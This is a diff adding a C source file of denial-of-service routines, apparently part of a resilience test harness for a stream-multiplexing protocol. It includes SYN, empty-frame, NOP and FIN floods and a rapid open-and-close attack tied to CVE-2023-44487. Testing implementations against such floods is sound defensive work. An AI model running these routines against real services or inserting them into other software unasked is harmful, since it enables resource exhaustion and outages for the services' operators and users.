@@ -1,0 +1,75 @@
+/*
+ * floods.c - frames that cost the victim more than the attacker: opens, ends, signs of life,
+ * nothing at all.
+ */
+#include "attack.h"
+
+enum {
+    FIRST_ID = 3,
+    ROUND = 200,      /* opens a paced flood does at once, well below what may wait to be refused */
+    ROUND_MS = 10,    /* and the time it gives the victim to refuse them */
+    RAPID_AHEAD = 500 /* opens that a rapid open-and-close is ahead of its victim's answers */
+};
+
+void attack_syn_flood(struct peer *peer)
+{
+    uint32_t id = FIRST_ID;
+    while (peer_syn(peer, id)) {
+        id += 2;
+    }
+}
+
+/* More opens than a session may have, but no faster than their refusals can leave; one byte on
+ * each, which must not cost memory once they are refused. */
+void attack_syn_paced(struct peer *peer)
+{
+    uint32_t id = FIRST_ID;
+    do {
+        for (int i = 0; i < ROUND; i++, id += 2) {
+            peer_syn(peer, id);
+            peer_psh(peer, id, 1);
+        }
+    } while (peer_wait(peer, ROUND_MS));
+}
+
+/* CVE-2023-44487: each stream is given up at once, so that no limit on open streams is reached. */
+void attack_open_close(struct peer *peer)
+{
+    uint32_t n = 0;
+    do {
+        while (n < peer->frames[CMD_FIN] + RAPID_AHEAD) {
+            peer_syn(peer, FIRST_ID + 2 * n);
+            peer_fin(peer, FIRST_ID + 2 * n);
+            n++;
+        }
+    } while (peer_wait(peer, 1));
+}
+
+void attack_empty_frames(struct peer *peer)
+{
+    peer_open(peer, FIRST_ID, 'E');
+    while (peer_psh(peer, FIRST_ID, 0)) {
+    }
+}
+
+void attack_nop_flood(struct peer *peer)
+{
+    while (peer_nop(peer)) {
+    }
+}
+
+/* Repeated FINs of one stream are a habit of Go [RCV-14]; a flood of them must cost no memory. */
+void attack_fin_repeated(struct peer *peer)
+{
+    peer_open(peer, FIRST_ID, 'H');
+    while (peer_fin(peer, FIRST_ID)) {
+    }
+}
+
+void attack_fin_unknown(struct peer *peer)
+{
+    uint32_t id = FIRST_ID;
+    while (peer_fin(peer, id)) {
+        id += 2;
+    }
+}
